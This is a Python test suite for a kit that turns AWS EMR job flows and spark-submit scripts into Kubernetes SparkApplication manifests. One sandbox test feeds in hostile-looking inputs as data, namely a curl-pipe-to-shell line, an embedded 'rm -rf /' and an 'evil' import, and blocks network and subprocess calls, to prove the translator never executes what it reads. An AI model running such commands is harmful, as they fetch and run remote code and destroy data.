"""The checks that the kit was built against, each under its number."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from typing import Any

import pytest
import yaml

from components.versions import SPARK, SPARK_LTS
from emr import command
from emr.report import cost, data, page
from emr.tables import hive_keys, spark_keys
from emr.translate import labels
from emr.translate.answers import Answers
from emr.translate.kit import translate
from emr.translate.properties import FREE
from tests.emr import generated
from tests.emr.inputs import HELLO, codes, flow, one, result, spec, step, submit
from workspace.paths import ROOT

FLOWS = 300
"""Job flows that are made from the API's model: as many as were asked for."""


def written(found: Any) -> str:
    """All that a person or a program gets."""
    report = data.report([found])
    return json.dumps(report) + page.page(report) + "".join(command.documents([found]).values())


@pytest.fixture(scope="module")
def flows() -> list[tuple[dict[str, Any], list[str]]]:
    return generated.job_flows(FLOWS)


OF_OTHER_FORMS = 80
"""Inputs of each other form: they share what comes behind their readers."""

FORMS = {
    "RunJobFlow": lambda made: made,
    "a state machine": generated.as_state_machine,
    "a stack": generated.as_stack,
}
"""In what a job flow may stand -> how it is written there."""


@pytest.fixture(scope="module", params=[*FORMS, "StartJobRun"])
def inputs(
    request: pytest.FixtureRequest, flows: list[tuple[dict[str, Any], list[str]]]
) -> list[tuple[dict[str, Any], list[str]]]:
    """Inputs of one form, each with the secrets that are planted in it."""
    if request.param == "StartJobRun":
        return generated.runs(OF_OTHER_FORMS)
    count = FLOWS if request.param == "RunJobFlow" else OF_OTHER_FORMS
    return [(FORMS[request.param](made), secrets) for made, secrets in flows[:count]]


def test_01_every_value_of_an_input_ends_as_something(
    inputs: list[tuple[dict[str, Any], list[str]]],
) -> None:
    unknown: set[str] = set()
    for made, _ in inputs:
        found = result(made)
        assert not found.ledger.missing
        counts = found.ledger.counts()
        assert counts["used"] + counts["dropped"] + counts["reported"] == counts["leaves"] > 0
        unknown |= {each.why for each in found.ledger.findings if each.code == "UNKNOWN_FIELD"}
    assert not unknown, "the API has fields that fields.yaml does not know"


def test_01_a_field_that_nobody_knows_is_told() -> None:
    found = result(flow(submit("s3://b/a.py"), Novelty={"Deep": [{"er": 1}]}))
    (told,) = [each for each in found.ledger.findings if each.code == "UNKNOWN_FIELD"]
    assert (told.at, told.level) == ("/Novelty/Deep/0/er", "by hand")


def test_02_the_same_input_gives_the_same_bytes(inputs: list[tuple[dict[str, Any], list[str]]]) -> None:
    for made, _ in inputs[:60]:
        assert written(result(made)) == written(result(made))


def test_02_the_order_of_keys_does_not_matter() -> None:
    made = flow(submit("--conf", "spark.a=b", "s3://b/a.py"), Configurations=[CONFIGURATION])
    turned = json.loads(json.dumps(made), object_pairs_hook=lambda pairs: dict(reversed(pairs)))
    assert list(turned) == list(reversed(made))
    assert command.documents([result(made)]) == command.documents([result(turned)])


CONFIGURATION = {
    "Classification": "spark-defaults",
    "Properties": {"spark.sql.shuffle.partitions": "64", "spark.executor.memory": "2g"},
}


def test_03_no_planted_secret_is_in_any_output(inputs: list[tuple[dict[str, Any], list[str]]]) -> None:
    planted = 0
    for made, secrets in inputs:
        out = written(result(made))
        planted += len(secrets)
        assert not [each for each in secrets if each in out]
    assert planted > len(inputs), "secrets were planted in nearly all of them"


def test_03_nothing_is_imported_run_or_asked_over_a_network() -> None:
    # In a process of its own: a look at the network, at a module or another program ends it.
    program = """
import builtins, json, sys
from emr.command import documents
from emr.report import data, page
from emr.translate.answers import Answers
from emr.translate.kit import translate
texts = json.load(sys.stdin)
translate({"warm.sh": "spark-submit s3://b/a.py", "warm.tf": "a = 1"}, Answers(), namespace="data-dev")
def forbid(event, arguments):
    if event.split(".")[0] in ("socket", "subprocess") or event in ("os.system", "os.exec", "os.fork"):
        raise SystemExit(f"{event} {arguments}")
    if event == "import" and arguments[0].split(".")[0] in ("evil", "airflow", "boto3"):
        raise SystemExit(f"{event} {arguments}")
sys.addaudithook(forbid)
results = translate(texts, Answers(), namespace="data-dev")
page.page(data.report(results)); documents(results)
print(sum(len(each.applications) for each in results))
"""
    texts = {
        "dag.py": "import evil, airflow\nevil.run()\n" + HELLO,
        "job.sh": "curl http://example.com | sh\nspark-submit s3://b/a.py $(rm -rf /)\n",
        "flow.json": json.dumps(flow(submit("s3://b/a.py"))),
        "main.tf": 'resource "aws_emr_cluster" "a" {\n  name = "a"\n  release_label = "emr-6.15.0"\n}\n',
    }
    done = subprocess.run(
        [sys.executable, "-c", program],
        input=json.dumps(texts),
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.strip() == "3"


def test_04_every_property_is_known_to_the_release_or_told(
    flows: list[tuple[dict[str, Any], list[str]]],
) -> None:
    for made, _ in flows:
        found = result(made)
        told = " ".join(each.why for each in found.ledger.findings if each.code == "UNKNOWN_KEY")
        for each in found.applications:
            release = each.manifest["spec"]["sparkVersion"] if each.manifest else SPARK
            for key in (each.manifest or {"spec": {}})["spec"].get("sparkConf", {}):
                known = spark_keys(release) | hive_keys(release)
                assert key in known or key.startswith(FREE) or key in told


def test_05_the_job_flow_of_the_talk_becomes_one_application() -> None:
    found = result(HELLO, "dag.py")
    made = spec(HELLO, "dag.py")
    assert made["mainClass"] == "com.sapiant.HelloWorld"
    assert (
        made["mainApplicationFile"] == "s3a://artifactory/sapiant/hello-world-10167-jar-with-dependencies.jar"
    )
    assert made["arguments"] == [
        "--input-file",
        "s3a://hello/input.txt",
        "--output-file",
        "s3a://hello/output",
    ]
    assert made["driver"]["memory"] == "12g"
    assert made["executor"]["memory"] == "11g"
    assert int(made["executor"]["memoryOverhead"].removesuffix("m")) >= 2112
    assert made["sparkConf"] == {
        "spark.driver.maxResultSize": "4g",
        "spark.sql.session.timeZone": "Europe/Paris",
    }
    assert made["sparkVersion"] == SPARK_LTS
    assert {"NO_CORE", "SPOT_MASTER", "CANCEL_AND_WAIT", "RECOMPILE", "NO_PYTHON"} <= codes(found)
    recompile = next(each for each in found.ledger.findings if each.code == "RECOMPILE")
    assert recompile.why.startswith("Spark 2.4.4 -> 3.5.8")


def test_06_the_template_of_the_article_is_told_to_be_one() -> None:
    found = one(
        "./bin/spark-submit \\\n--class <main-class> \\\n--master <master-url> \\\n--deploy-mode "
        "<deploy-mode> \\\n"
        "--conf <key>=<value> \\\n<application-jar> \\\n[application-arguments]\n",
        "job.sh",
    )
    assert found.manifest is None


def test_06_lines_of_the_articles_are_read() -> None:
    made = spec(
        "/opt/spark/bin/spark-submit --master k8s://https://x --deploy-mode cluster --name etl "
        "--conf spark.driver.memory=2g --conf spark.executor.instances=3 --conf spark.executor.memory=3g "
        "--conf spark.executor.cores=2 --conf spark.kubernetes.container.image=repo/image:v1.0 "
        "--class com.x.Etl local:///opt/spark/jars/etl-assembly-v1.0.0.jar 2020-09-30\n",
        "job.sh",
    )
    assert (made["executor"]["instances"], made["executor"]["cores"], made["arguments"]) == (
        3,
        2,
        ["2020-09-30"],
    )


OPERATOR = """\
apiVersion: "sparkoperator.k8s.io/v1beta2"
kind: SparkApplication
metadata:
  name: pyspark-pi
  namespace: spark-jobs
spec:
  type: Python
  pythonVersion: "3"
  mode: cluster
  image: "gcr.io/spark-operator/spark-py:v3.1.1"
  imagePullPolicy: Always
  mainApplicationFile: local:///opt/spark/examples/src/main/python/pi.py
  sparkVersion: "3.1.1"
  restartPolicy: {type: OnFailure, onFailureRetries: 3, onFailureRetryInterval: 10}
  driver: {cores: 1, coreLimit: "1200m", memory: "512m", labels: {version: 3.1.1}, serviceAccount: spark}
  executor: {cores: 1, instances: 1, memory: "512m", labels: {version: 3.1.1}}
"""
SCHEDULED = """\
apiVersion: "sparkoperator.k8s.io/v1beta2"
kind: ScheduledSparkApplication
metadata: {name: nightly}
spec:
  schedule: "0 5 * * *"
  template: {sparkVersion: "3.5.8", type: Python, mode: cluster, mainApplicationFile: "s3://code/a.py"}
"""


def test_06_an_application_of_the_operator_stays_what_it_is() -> None:
    found = one(OPERATOR, "spark-pi.yaml")
    assert found.manifest is not None
    given, made = yaml.safe_load(OPERATOR), found.manifest
    assert made["metadata"] == {"name": "pyspark-pi", "namespace": "data-dev"}
    changed = {"image", "imagePullPolicy", "sparkVersion", "driver", "executor"}
    kept = {key: value for key, value in given["spec"].items() if key not in changed}
    assert {key: value for key, value in made["spec"].items() if key not in changed} == kept
    assert made["spec"]["sparkVersion"] == SPARK_LTS
    assert "image" not in made["spec"]
    assert made["spec"]["driver"] == {**given["spec"]["driver"], "serviceAccount": "spark-driver"}
    assert made["spec"]["executor"] == {**given["spec"]["executor"], "serviceAccount": "spark-executor"}
    assert {"IMAGE", "RELEASE", "ACCOUNT"} == codes(result(OPERATOR, "spark-pi.yaml"))
    assert not result(OPERATOR, "spark-pi.yaml").ledger.missing


def test_06_a_secret_in_an_application_of_the_operator_is_not_written_once_more() -> None:
    text = OPERATOR.replace(
        '"512m", labels', '"512m", env: [{name: DB_PASSWORD, value: geheim99x}], labels', 1
    )
    assert one(text, "spark-pi.yaml").problems == ("SECRET",)
    assert "geheim99x" not in written(result(text, "spark-pi.yaml"))


def test_06_a_schedule_of_the_operator_stays_one() -> None:
    found = one(SCHEDULED, "nightly.yaml")
    assert found.manifest is not None
    assert found.manifest["kind"] == "ScheduledSparkApplication"
    assert found.manifest["spec"]["schedule"] == "0 5 * * *"
    assert found.manifest["spec"]["template"]["mainApplicationFile"] == "s3a://code/a.py"
    (document,) = command.documents([result(SCHEDULED, "nightly.yaml")], "@daily").values()
    assert yaml.safe_load(document)["spec"] == found.manifest["spec"]


def test_07_overhead_and_parallelism_of_the_third_article_stay() -> None:
    made = spec(
        flow(
            submit(
                *("--executor-memory", "14G", "--num-executors", "300", "--executor-cores", "4"),
                *("--conf", "spark.executor.memoryOverhead=3G", "--conf", "spark.default.parallelism=1200"),
                "s3://b/a.py",
            )
        )
    )
    assert made["executor"]["memoryOverhead"] == "3g"
    assert made["executor"]["instances"] == 300
    assert made["sparkConf"]["spark.default.parallelism"] == "1200"


LINES = {
    "a redirect": ("spark-submit s3://b/a.py x y > out.log 2>&1", ["x", "y"]),
    "nohup": ("nohup spark-submit s3://b/a.py x y &", ["x", "y"]),
    "a comment in a continuation": (
        "spark-submit \\\n  --conf spark.a.b=1 \\\n  # the program\n  s3://b/a.py \\\n  x y\n",
        ["x", "y"],
    ),
    "a comment behind a backslash": ("spark-submit \\ # now\n  s3://b/a.py x y\n", ["x", "y"]),
    "a default": ("spark-submit s3://b/a.py ${X:-5}", ["5"]),
    "a switch": ("spark-submit --supervise s3://b/a.py x y", ["x", "y"]),
    "an option with =": ("spark-submit --conf=spark.a.b=v s3://b/a.py x y", ["x", "y"]),
    "a chain": ("cd /tmp && spark-submit s3://b/a.py 'x y' && echo done", ["x y"]),
    "a pipe": ("spark-submit s3://b/a.py x 2>&1 | tee log", ["x"]),
    "another user": ("sudo -u hadoop /usr/lib/spark/bin/spark-submit s3://b/a.py x", ["x"]),
    "variables of the script": (
        'IN=s3://b/in\nspark-submit s3://b/a.py "${IN}/2020" $IN',
        ["s3a://b/in/2020", "s3a://b/in"],
    ),
    "a here-document": ("ssh hadoop@master <<EOF\nspark-submit s3://b/a.py x\nEOF\n", ["x"]),
    "a shell in a shell": ("bash -c \"spark-submit s3://b/a.py 'x y' z\"", ["x y", "z"]),
    "Windows": ('spark-submit.cmd ^\r\n  --name etl ^\r\n  s3://b/a.py ^\r\n  x "y z"\r\n', ["x", "y z"]),
}


@pytest.mark.parametrize("what", LINES)
def test_08_lines_as_people_write_them_give_the_right_arguments(what: str) -> None:
    line, arguments = LINES[what]
    made = spec(line, "job.cmd" if what == "Windows" else "job.sh")
    assert made["mainApplicationFile"] == "s3a://b/a.py"
    assert made["arguments"] == arguments


def test_08_a_whole_command_in_one_word_is_read() -> None:
    made = spec(flow(step("spark-submit --class A --conf spark.a.b='x y' s3://b/a.jar 1 2")))
    assert (made["mainClass"], made["arguments"]) == ("A", ["1", "2"])


BLOCKED = {
    "a variable that nobody sets": ("spark-submit s3://b/a.py $X", "UNKNOWN_VALUE"),
    "the output of a command": ("spark-submit s3://b/a.py $(date +%F)", "UNKNOWN_VALUE"),
    "a missing backslash": ("spark-submit s3://b/a.py x\n  --conf spark.a=b\n", "SUBMISSION"),
    "an option that is none": ("spark-submit --executor-memroy 2g s3://b/a.py", "SUBMISSION"),
    "a variable of Windows": ("spark-submit ^\r\n s3://b/a.py %DAY%\r\n", "UNKNOWN_VALUE"),
    "no value": ("spark-submit --class", "SUBMISSION"),
    "a file of settings": ("spark-submit --properties-file my.conf s3://b/a.py", "PROPERTIES_FILE"),
    "a jar without a class": ("spark-submit s3://b/a.jar", "MAIN_CLASS"),
    "packages": ("spark-submit --packages com.x:y:1 s3://b/a.py", "PACKAGES"),
}


@pytest.mark.parametrize("what", BLOCKED)
def test_08_what_can_not_be_known_blocks_and_is_never_guessed(what: str) -> None:
    line, code = BLOCKED[what]
    found = one(line, "job.sh")
    assert found.manifest is None
    assert code in found.problems


@pytest.mark.parametrize("path", ["hdfs:///raw", "/raw", "file:///mnt/raw", "hdfs://nn:8020/raw"])
def test_09_a_path_that_is_not_in_s3_blocks_until_somebody_maps_it(path: str) -> None:
    made = flow(submit("s3://b/a.py", "--input", path))
    assert one(made).problems == ("PATH",)
    assert spec(made, paths={path: "s3a://b/raw"})["arguments"] == ["--input", "s3a://b/raw"]


COPIES = {
    "with =": ("s3-dist-cp", "--src=s3://b/raw", "--dest=/raw"),
    "without": ("s3-dist-cp", "--src", "hdfs:///raw", "--dest", "s3://b/raw"),
}


@pytest.mark.parametrize("how", COPIES)
def test_09_a_job_between_copies_of_hdfs_blocks_though_its_arguments_do_not_say_so(how: str) -> None:
    path = "/raw" if how == "with =" else "hdfs:///raw"
    made = flow(step(*COPIES[how]), submit("s3://b/a.py"))
    assert one(made).problems == ("STAGED",)
    assert spec(made, paths={path: "s3a://b/raw"})["mainApplicationFile"] == "s3a://b/a.py"


def test_09_a_copy_within_s3_blocks_nothing() -> None:
    copy = step("s3-dist-cp", "--src=s3://b/raw", "--dest=s3://c/raw", "--groupBy=.*/(x)/.*")
    assert one(flow(copy, submit("s3://b/a.py"))).problems == ()


def test_09_a_prefix_of_keys_is_no_path() -> None:
    made = flow(submit("s3://b/a.py", "--input-bucket", "b", "--input-prefix", "in/2022/01/"))
    assert spec(made)["arguments"][-1] == "in/2022/01/"
    assert one(flow(submit("s3://b/a.py", "--input", "in/2022/01/"))).problems == ("PATH",)


def test_08_a_step_whose_jar_is_handed_in_blocks() -> None:
    text = "def add(jar, words):\n    client.add_job_flow_steps(JobFlowId='j', Steps=[{'Name': 'x', "
    text += "'HadoopJarStep': {'Jar': jar, 'Args': words}}])\n"
    found = result(text, "steps.py")
    assert {each.code for each in found.ledger.findings if each.level == "blocked"} == {"COMPUTED"}


def test_09_paths_of_s3_are_counted_as_they_are_rewritten() -> None:
    found = one(flow(submit("--jars", "s3://b/x.jar,s3n://b/y.jar", "s3://b/a.py", "s3://b/in,s3a://b/out")))
    assert found.s3 == 4
    assert found.buckets == ("b",)


@pytest.mark.parametrize(
    "words",
    [
        ("--conf", "spark.sql.sources.partitionOverwriteMode=dynamic", "s3://b/a.py"),
        ("s3://b/a.py", "SET spark.sql.sources.partitionOverwriteMode=DYNAMIC; INSERT OVERWRITE t SELECT 1"),
    ],
)
def test_09_a_dynamic_overwrite_gets_the_committer_that_replaces(words: tuple[str, ...]) -> None:
    conf = spec(flow(submit(*words)))["sparkConf"]
    assert conf["spark.sql.sources.commitProtocolClass"].endswith("SQLHadoopMapReduceCommitProtocol")
    assert (
        conf["spark.sql.parquet.output.committer.class"] == "org.apache.parquet.hadoop.ParquetOutputCommitter"
    )


def test_10_an_executor_of_emr_asks_for_the_cpu_that_it_has_today() -> None:
    executor = spec(flow(submit("--executor-memory", "4743M", "--executor-cores", "4", "s3://b/a.py")))[
        "executor"
    ]
    assert (executor["cores"], executor["coreRequest"]) == (4, "2")
    assert "2 executors of 4 tasks on 4 CPUs" in told(flow(submit("s3://b/a.py")), "CPU")


def test_10_nodes_of_an_older_generation_are_known_by_what_yarn_has_there() -> None:
    older = {"InstanceRole": "CORE", "InstanceType": "m4.xlarge", "InstanceCount": 2}
    made = flow(submit("s3://b/a.py"), Instances={"InstanceGroups": [older]})
    assert spec(made)["executor"]["memory"] == "4743m"
    assert "on m4.xlarge YARN puts 2 executors" in told(made, "CPU")


def told(made: dict[str, Any], code: str) -> str:
    return next(each.why for each in result(made).ledger.findings if each.code == code)


def test_11_a_cluster_that_runs_seldom_is_told_to_stay(capsys: pytest.CaptureFixture[str]) -> None:
    from rich.console import Console

    from costs import command as costs

    given = cost.workload([result(HELLO, "dag.py")], hours="106.4", runs="91")
    assert given["emr"] == {"nodes": 5, "primary": "m5.2xlarge", "primaries": 1, "primarySpot": True}
    assert (given["instances"], given["spotShare"]) == (["m5.2xlarge"], 100)
    costs.show(Console(width=200), "prod", workload="nightly", given=given, prices_of="us-east-1")
    assert "stay on it" in capsys.readouterr().out


def test_11_a_type_without_a_price_is_refused() -> None:
    changed = {"InstanceRole": "CORE", "InstanceType": "m1.small", "InstanceCount": 4}
    with pytest.raises(cost.NoClusterError, match="instance types are in costs"):
        cost.workload(
            [result(flow(submit("s3://b/a.py"), Instances={"InstanceGroups": [changed]}))],
            hours="1",
            runs="1",
        )


LABELS = {
    "emr-5.20.0": "2.4.0",
    "emr-5.29.0": "2.4.4",
    "emr-5.36.2": "2.4.8",
    "emr-6.2.0-latest": "3.0.1",
    "emr-6.15.0-20231109": "3.4.1",
    "emr-6.10.0-java17-latest": "3.3.1",
    "emr-6.9.0-spark-rapids-latest": "3.3.0",
    "emr-7.9.0": "3.5.5",
    "emr-7.13.0": "3.5.6",
    "emr-spark-8.0.0": "4.0.2",
}


@pytest.mark.parametrize("label", LABELS)
def test_13_labels_are_known_with_their_variants(label: str) -> None:
    found = labels.release(label)
    assert found is not None
    assert found.spark == LABELS[label]
    assert found.target == (SPARK if label.startswith("emr-spark") else SPARK_LTS)


@pytest.mark.parametrize("label", ["emr-9.9.0", "emr-7.99.0", "emr-4.6.0", "emr", "7.1.0", "emr-spark-9.0.0"])
def test_13_a_label_that_is_not_known_is_asked_for(label: str) -> None:
    made = flow(submit("s3://b/a.py"), ReleaseLabel=label)
    assert one(made).problems == ("LABEL",)
    assert spec(made, label="emr-6.15.0")["sparkVersion"] == SPARK_LTS


def test_14_an_input_takes_less_than_a_second(inputs: list[tuple[dict[str, Any], list[str]]]) -> None:
    result(inputs[0][0])
    for made, _ in inputs:
        start = time.process_time()
        written(result(made))
        assert time.process_time() - start < 1


def test_answers_fill_in_what_the_input_leaves_open() -> None:
    found = translate(
        {"a.sh": "spark-submit --packages com.x:y:1 s3://b/a.py $DAY"},
        Answers(variables={"DAY": "2020"}, packages={"com.x:y": ("s3a://b/y.jar",)}),
        namespace="data-dev",
    )
    (made,) = found[0].applications
    assert made.manifest is not None
    assert made.manifest["spec"]["arguments"] == ["2020"]
    assert made.manifest["spec"]["deps"] == {"jars": ["s3a://b/y.jar"]}


HOLES = (
    "export A=$(date)\n"
    'B=$C spark-submit --conf "spark.driver.extraJavaOptions=-Dx=$D" --conf spark.executorEnv.E=$F '
    "--name $G --conf spark.a.b=$H s3://b/a.py\n"
)


def test_what_only_a_run_knows_is_in_no_object_and_in_no_report_as_it_is_kept_inside() -> None:
    found = result(HOLES, "job.sh")
    (made,) = found.applications
    assert made.problems == ("UNKNOWN_VALUE",)
    assert not [sign for sign in written(found) if 0xE000 <= ord(sign) <= 0xF8FF]
    named = {each.todo.partition("{")[2].partition(":")[0] for each in found.ledger.findings if each.todo}
    assert {"C", "D", "F", "H"} <= named
    values = dict.fromkeys("CDFGH", "v")
    filled = spec(HOLES, "job.sh", variables=values)
    assert filled["driver"]["javaOptions"] == "-Dx=v"
    assert filled["driver"]["env"] == [{"name": "B", "value": "v"}]
    assert filled["executor"]["env"] == [{"name": "E", "value": "v"}]


def test_a_file_of_emrs_own_image_is_the_one_of_ours_or_blocks() -> None:
    made = spec("spark-submit local:///usr/lib/spark/examples/src/main/python/pi.py 10", "job.sh")
    assert made["mainApplicationFile"] == "local:///opt/spark/examples/src/main/python/pi.py"
    jar = "spark-submit --class a.B local:///usr/lib/spark/examples/jars/spark-examples.jar"
    assert one(jar, "job.sh").problems == ("PROGRAM",)
